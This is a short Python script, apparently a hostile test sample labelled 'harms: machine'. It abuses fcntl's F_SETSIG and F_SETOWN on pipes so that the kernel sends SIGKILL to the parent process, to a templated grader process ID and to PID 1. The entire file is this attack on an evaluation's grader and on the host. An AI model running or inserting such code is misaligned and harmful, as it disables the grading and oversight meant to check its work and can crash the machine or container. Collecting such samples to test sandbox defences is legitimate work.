"""Lets the kernel send SIGKILL to the grader when a pipe becomes readable."""
# harms: machine

import fcntl
import os

for number in (os.getppid(), int("@GRADER@"), 1):
    reader, writer = os.pipe()
    fcntl.fcntl(reader, 10, 9)  # F_SETSIG
    fcntl.fcntl(reader, fcntl.F_SETOWN, number)
    fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC)
    os.write(writer, b"x")
